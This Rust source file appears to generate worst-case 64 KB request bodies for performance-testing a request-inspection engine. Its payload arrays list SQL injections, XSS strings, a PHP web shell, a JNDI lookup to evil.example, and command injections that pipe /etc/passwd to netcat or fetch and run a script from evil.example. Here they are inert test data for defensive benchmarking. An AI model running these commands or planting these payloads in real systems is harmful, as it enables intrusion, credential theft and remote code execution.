//! Values that are made to cost as much as they can, each about 64 KB.

use serde_json::{Value, json};

use super::request::Request;

const LENGTH: usize = 64 * 1024;
/// The engine reads no more levels than 512, and the root is one.
const DEPTH: usize = 500;
/// As many as the engine reads.
const ARGUMENTS: usize = 1000;

/// A value, and the two requests that carry it.
pub(crate) struct Adversarial {
    pub(crate) name: &'static str,
    pub(crate) title: &'static str,
    pub(crate) form: Request,
    pub(crate) json: Request,
    /// Its length, which is what the speed is of.
    pub(crate) bytes: usize,
}

/// One piece, again and again.
const REPEATED: [(&str, &str, &str); 10] = [
    ("run-letter", "`a` repeated", "a"),
    ("run-space", "space repeated", " "),
    ("run-quote", "`'` repeated", "'"),
    ("run-double-quote", "`\"` repeated", "\""),
    ("run-parenthesis", "`(` repeated", "("),
    ("run-traversal", "`../` repeated", "../"),
    ("run-tag", "`<a ` repeated", "<a "),
    ("run-or", "` or 1` repeated", " or 1"),
    ("run-percent", "`%25` repeated", "%25"),
    ("prose", "English with SQL words", PROSE),
];

const PROSE: &str = "Please select one of the tables from the union hall and order the chairs by where they stand, or \
    drop them at the group entrance; then update the list, insert your name into the set of values and delete what is \
    not needed. If the database is down, wait for the delay to end and execute the plan again. Alter it like you want. ";

const PAYLOADS: [(&str, &str, &[&str]); 4] = [
    ("sql-injections", "SQL injections repeated", &SQL),
    ("cross-site-scriptings", "cross-site scripting repeated", &SCRIPTS),
    ("command-injections", "command injections repeated", &COMMANDS),
    ("other-payloads", "traversal, template, PHP and JNDI payloads repeated", &OTHERS),
];

const SQL: [&str; 8] = [
    "1' OR '1'='1' -- ",
    "' UNION ALL SELECT NULL,version(),concat(0x7e,user())#",
    "1; DROP TABLE users; ",
    "1 AND (SELECT 1 FROM (SELECT(SLEEP(5)))a) ",
    "admin'/**/or/**/1=1 ",
    "'; EXEC xp_cmdshell('dir'); -- ",
    "1' AND extractvalue(1,concat(0x7e,(SELECT @@version))) -- ",
    "{\"$where\": \"1 == 1\"} ",
];

const SCRIPTS: [&str; 7] = [
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg/onload=eval(atob('YQ=='))>",
    "javascript:alert(1)//",
    "<iframe src=\"data:text/html;base64,PHNjcmlwdD4=\">",
    "<a href=\"&#x6A;avascript:alert(1)\">",
    "<style>@import 'x';*{background:expression(alert(1))}</style>",
];

const COMMANDS: [&str; 7] = [
    "; cat /etc/passwd | nc 10.0.0.1 4444 ",
    "$(curl http://evil.example/x.sh|sh) ",
    "`id` && whoami ",
    "|| ping -c 10 127.0.0.1 ",
    "& powershell -enc SQBFAFgA ",
    "c''at${IFS}/e\\tc/pas?wd ",
    "() { :;}; /bin/bash -c 'wget http://evil.example' ",
];

const OTHERS: [&str; 7] = [
    "../../../../etc/passwd%00 ",
    "..\\..\\windows\\win.ini ",
    "{{7*7}}${7*7}<%= 7*7 %> ",
    "<?php system($_GET['c']); ?> ",
    "${jndi:ldap://evil.example/a} ",
    "__proto__[x]=constructor.prototype ",
    "O:8:\"stdClass\":1:{s:1:\"a\";i:1;} ",
];

pub(crate) fn all() -> Vec<Adversarial> {
    let mut all = vec![one("punctuation", "random punctuation", &punctuation())];
    all.extend(PAYLOADS.map(|(name, title, payloads)| one(name, title, &repeated(&payloads.concat()))));
    all.extend(REPEATED.map(|(name, title, piece)| one(name, title, &repeated(piece))));
    all.extend([nesting(), arguments()]);
    all
}

/// A value in one field.
fn one(name: &'static str, title: &'static str, value: &str) -> Adversarial {
    Adversarial {
        name,
        title,
        bytes: value.len(),
        form: Request::form(&[("value", value.as_bytes())]),
        json: Request::json(&json!({ "value": value })),
    }
}

fn repeated(piece: &str) -> String {
    piece.chars().cycle().take(LENGTH).collect()
}

fn punctuation() -> String {
    const MARKS: &[u8] = b"!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~ ";
    let mut random = Random::default();
    let mark = || MARKS.get(random.below(MARKS.len())).copied().unwrap_or(b'!');
    std::iter::repeat_with(mark).take(LENGTH).map(char::from).collect()
}

/// Brackets in brackets: arrays where JSON is read, text where it is not.
fn nesting() -> Adversarial {
    let nested = || (0..DEPTH).fold(Value::from(1), |inner, _| Value::from(vec![inner]));
    let value: Value = std::iter::repeat_with(nested).take(LENGTH / (2 * DEPTH)).collect();
    let json = Request::json(&value);
    Adversarial {
        name: "nesting",
        title: "brackets in brackets, 500 deep",
        bytes: json.body.len(),
        form: Request::form(&[("value", &json.body)]),
        json,
    }
}

fn arguments() -> Adversarial {
    let payloads = [SQL.as_slice(), &SCRIPTS, &COMMANDS, &OTHERS].concat();
    let value = |number: usize| -> String {
        let payload = payloads.iter().cycle().nth(number).copied().unwrap_or_default();
        payload.chars().cycle().take(LENGTH / ARGUMENTS).collect()
    };
    let fields: Vec<_> = (0..ARGUMENTS).map(|number| (format!("a{number}"), value(number))).collect();
    let form: Vec<_> = fields.iter().map(|(name, value)| (name.as_str(), value.as_bytes())).collect();
    Adversarial {
        name: "arguments",
        title: "1000 arguments, each a payload",
        bytes: fields.iter().map(|(_, value)| value.len()).sum(),
        form: Request::form(&form),
        json: Request::json(&fields.iter().cloned().collect()),
    }
}

/// The same numbers in every run (xorshift, Marsaglia 2003).
pub(crate) struct Random(u64);

impl Default for Random {
    fn default() -> Self {
        Self(0x9E37_79B9_7F4A_7C15)
    }
}

impl Random {
    pub(crate) fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }

    fn below(&mut self, limit: usize) -> usize {
        usize::try_from(self.next() >> 32).unwrap_or_default() % limit
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_value_is_as_long_as_it_is_said() {
        for adversarial in all() {
            let Adversarial { name, bytes, form, json, .. } = adversarial;
            assert!((60_000..70_000).contains(&bytes), "{name}: {bytes}");
            assert!(form.body.len() >= bytes && json.body.len() >= bytes, "{name}");
        }
    }
}
